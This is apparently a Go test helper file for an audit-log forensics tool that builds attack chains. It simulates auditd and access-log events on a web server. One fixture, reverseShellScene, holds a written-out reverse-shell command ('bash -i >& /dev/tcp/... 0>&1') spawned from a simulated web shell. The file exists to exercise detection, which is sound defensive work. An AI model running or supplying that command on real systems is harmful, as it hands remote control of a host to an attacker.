package timeline

import (
	"fmt"
	"path"
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/detect"
	"github.com/auditchain/auditchain/parser"
)

// sim builds small event sequences the way the parser would deliver them:
// every event goes through a real parser.Tree (so ancestry, pid reuse and
// re-parenting are the tree's own), then through the Builder.
type sim struct {
	t        testing.TB
	tree     *parser.Tree
	b        *Builder
	t0       time.Time
	serial   uint64
	host     string
	findings []*detect.Finding
}

func newSim(t testing.TB, opts Options) *sim {
	t.Helper()
	b, err := NewBuilder(opts)
	if err != nil {
		t.Fatal(err)
	}
	return &sim{t: t, tree: parser.NewTree(), b: b, t0: time.Date(2026, 11, 25, 20, 0, 0, 0, time.UTC), serial: 1000}
}

func (s *sim) at(sec float64) time.Time {
	return s.t0.Add(time.Duration(sec * float64(time.Second)))
}

// who is the acting process of an audit event.
type who struct {
	pid, ppid int
	uid       uint32
	auid, ses parser.ID // zero: unset, like a daemon's children
	exe       string
	cwd       string
	user      string
}

func (s *sim) feed(ev *parser.Event) *parser.Event {
	if ev.Source == "" {
		ev.Source = "auditd"
	}
	if ev.Host == "" {
		ev.Host = s.host
	}
	if ev.Source == "auditd" {
		if ev.Serial == 0 {
			s.serial++
			ev.Serial = s.serial
		}
		if len(ev.Evidence) == 0 {
			ev.Evidence = []parser.Evidence{{Pos: parser.Pos{File: "audit.log", Line: int(ev.Serial)}, Serial: ev.Serial, Raw: ev.RecordType}}
		}
	}
	s.tree.Observe(ev)
	s.b.Observe(ev)
	return ev
}

func (s *sim) proc(kind parser.Kind, at float64, w who, syscall string) *parser.Event {
	u := parser.NewID(w.uid)
	user := w.user
	if user == "" {
		user = map[uint32]string{0: "root", 33: "www-data"}[w.uid]
	}
	return &parser.Event{
		Kind: kind, Time: s.at(at), Syscall: syscall, Success: true, RecordType: "SYSCALL",
		PID: w.pid, PPID: w.ppid, UID: u, EUID: u, AUID: w.auid, SES: w.ses,
		Exe: w.exe, Comm: path.Base(w.exe), Cwd: w.cwd, User: user,
	}
}

// exec runs args[0] (resolved under /usr/bin unless absolute) in process w.
func (s *sim) exec(at float64, w who, args ...string) *parser.Event {
	exe := args[0]
	if !strings.HasPrefix(exe, "/") {
		exe = "/usr/bin/" + exe
	}
	w.exe = exe
	ev := s.proc(parser.KindExec, at, w, "execve")
	ev.Args = args
	ev.Path = exe
	return s.feed(ev)
}

// touch records a syscall of process w without an exec (a daemon or worker
// seen doing something).
func (s *sim) touch(at float64, w who) *parser.Event {
	return s.feed(s.proc(parser.KindSyscall, at, w, "read"))
}

func (s *sim) write(at float64, w who, kind parser.Kind, file string) *parser.Event {
	ev := s.proc(kind, at, w, map[parser.Kind]string{parser.KindRename: "rename", parser.KindUnlink: "unlink"}[kind])
	if ev.Syscall == "" {
		ev.Syscall = "openat"
	}
	ev.Path = file
	return s.feed(ev)
}

// poolAccept feeds an accept from the worker's pool socket (a unix
// socket): the worker going back to serve its next request.
func (s *sim) poolAccept(w who, at float64) {
	ev := s.proc(parser.KindAccept, at, w, "accept")
	ev.Peer = parser.Addr{Family: "unix"}
	s.feed(ev)
}

func (s *sim) connect(at float64, w who, ip string, port int) *parser.Event {
	ev := s.proc(parser.KindConnect, at, w, "connect")
	ev.Peer = parser.Addr{Family: "inet", IP: ip, Port: port}
	return s.feed(ev)
}

func (s *sim) accept(at float64, w who, ip string, port int) *parser.Event {
	ev := s.proc(parser.KindAccept, at, w, "accept")
	ev.Peer = parser.Addr{Family: "inet", IP: ip, Port: port}
	return s.feed(ev)
}

func (s *sim) exit(at float64, w who) *parser.Event {
	return s.feed(s.proc(parser.KindExit, at, w, "exit_group"))
}

// login is an sshd LOGIN/USER_START record of process pid opening session
// ses for auid.
func (s *sim) login(at float64, recordType string, pid int, auid, ses uint32, acct, addr string) *parser.Event {
	ev := &parser.Event{
		Kind: parser.KindLogin, Time: s.at(at), RecordType: recordType, PID: pid, UID: parser.NewID(0),
		AUID: parser.NewID(auid), SES: parser.NewID(ses), Exe: "/usr/sbin/sshd", Account: acct, AUser: acct, Success: true,
	}
	if recordType == "USER_START" {
		ev.Kind = parser.KindSession
	}
	if addr != "" {
		ev.Peer = parser.Addr{Family: "inet", IP: addr}
	}
	return s.feed(ev)
}

// record is a non-syscall audit record (CONFIG_CHANGE, DAEMON_*) with its
// raw text, as the Builder reads their fields from it.
func (s *sim) record(at float64, kind parser.Kind, recordType, fields string) *parser.Event {
	s.serial++
	ev := &parser.Event{Kind: kind, Time: s.at(at), RecordType: recordType, Serial: s.serial, Source: "auditd"}
	raw := fmt.Sprintf("type=%s msg=audit(%d.%03d:%d): %s", recordType, ev.Time.Unix(), ev.Time.Nanosecond()/1e6, s.serial, fields)
	ev.Evidence = []parser.Evidence{{Pos: parser.Pos{File: "audit.log", Line: int(s.serial)}, Serial: s.serial, Raw: raw}}
	f := rawFields(raw)
	ev.Op, ev.Key = f["op"], f["key"]
	return s.feed(ev)
}

// http is one access-log request, stamped to the second as access logs are.
func (s *sim) http(at float64, method, target string, status int, client, agent string) *parser.Event {
	p, q, _ := strings.Cut(target, "?")
	ev := &parser.Event{
		Kind: parser.KindHTTP, Time: s.at(at).Truncate(time.Second), Source: "access-log", Host: s.host,
		HTTP:     &parser.HTTPRequest{Client: client, Method: method, Path: p, Query: q, Proto: "HTTP/1.1", Status: status, UserAgent: agent},
		Evidence: []parser.Evidence{{Pos: parser.Pos{File: "access.log", Line: 1}}},
	}
	return s.feed(ev)
}

// find adds a finding on ev.
func (s *sim) find(ev *parser.Event, st detect.Stage, sev detect.Severity, title string) *detect.Finding {
	f := &detect.Finding{
		RuleID: strings.ToLower(strings.ReplaceAll(title, " ", "-")), Title: title, Severity: sev, Stage: st,
		Time: ev.Time, Host: ev.Host, Event: ev, Process: ev.Proc, Source: "rule",
	}
	s.findings = append(s.findings, f)
	return f
}

func (s *sim) build() *Result {
	return s.b.Build(s.findings, s.tree)
}

// chainOf returns the chain that holds f, or nil.
func chainOf(r *Result, f *detect.Finding) *Chain {
	for _, c := range r.Chains {
		for _, g := range c.Findings {
			// a demoted or re-placed copy stands for the finding given
			if g == f || g.Event == f.Event && g.RuleID == f.RuleID {
				return c
			}
		}
	}
	return nil
}

func hasLink(c *Chain, prefix, contains string) bool {
	for _, l := range c.Links {
		if strings.HasPrefix(l, prefix) && strings.Contains(l, contains) {
			return true
		}
	}
	return false
}

// reverseShellScene: a web shell (pid 200, under a php-fpm worker) that
// opens a reverse shell to 198.51.100.9:4444 at 10 s.
func reverseShellScene(t *testing.T) (s *sim, root who, rev *detect.Finding) {
	s = newSim(t, Options{})
	s.webServer()
	root = shellOf(200, worker1, "/var/www/html/uploads")
	rev = s.find(s.exec(10, root, "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
	return s, root, rev
}

// wantIn fails the test, saying why, unless every finding is in chain c.
func wantIn(t *testing.T, r *Result, c *Chain, why string, fs ...*detect.Finding) {
	t.Helper()
	for _, f := range fs {
		if chainOf(r, f) != c {
			dumpChains(t, r)
			t.Fatal(why)
		}
	}
}

// wantOut fails the test, saying why, when a finding is in chain c.
func wantOut(t *testing.T, r *Result, c *Chain, why string, fs ...*detect.Finding) {
	t.Helper()
	for _, f := range fs {
		if chainOf(r, f) == c {
			dumpChains(t, r)
			t.Fatal(why)
		}
	}
}

func dumpChains(t *testing.T, r *Result) {
	t.Helper()
	for _, c := range r.Chains {
		t.Logf("%s sev=%s score=%d findings=%d", c.ID, c.Severity, c.Score, len(c.Findings))
		for _, f := range c.Findings {
			t.Logf("   %s stage %d %s pid %d", f.Title, f.Stage, f.Severity, f.Event.PID)
		}
		for _, l := range c.Links {
			t.Logf("   link %s", l)
		}
	}
}

// Common processes of the scenes: an nginx + php-fpm web server, cron and
// sshd, all started before the log.
var (
	fpmMaster = who{pid: 100, ppid: 1, uid: 0, exe: "/usr/sbin/php-fpm8.2"}
	worker1   = who{pid: 101, ppid: 100, uid: 33, exe: "/usr/sbin/php-fpm8.2", cwd: "/var/www/html"}
	worker2   = who{pid: 102, ppid: 100, uid: 33, exe: "/usr/sbin/php-fpm8.2", cwd: "/var/www/html"}
	cronD     = who{pid: 50, ppid: 1, uid: 0, exe: "/usr/sbin/cron"}
	sshD      = who{pid: 60, ppid: 1, uid: 0, exe: "/usr/sbin/sshd"}
)

// webServer makes the daemons known to the tree.
func (s *sim) webServer() {
	s.touch(0, fpmMaster)
	s.touch(0, worker1)
	s.touch(0, worker2)
	s.touch(0, cronD)
	s.touch(0, sshD)
}

// shellOf returns a web-shell process (a child of a php-fpm worker).
func shellOf(pid int, w who, cwd string) who {
	return who{pid: pid, ppid: w.pid, uid: 33, cwd: cwd}
}

func child(pid int, parent who) who {
	c := parent
	c.pid, c.ppid = pid, parent.pid
	return c
}

// oneOf returns the one finding of rule in r when want, and nil when not;
// any other count fails the test.
func oneOf(t *testing.T, r *Result, rule string, want bool) *detect.Finding {
	t.Helper()
	var got []*detect.Finding
	for _, f := range r.Findings {
		if f.RuleID == rule {
			got = append(got, f)
		}
	}
	switch {
	case !want && len(got) != 0:
		t.Fatalf("%d %s findings, want none: %s", len(got), rule, got[0].Reason)
	case want && len(got) != 1:
		t.Fatalf("%d %s findings, want 1", len(got), rule)
	case !want:
		return nil
	}
	return got[0]
}
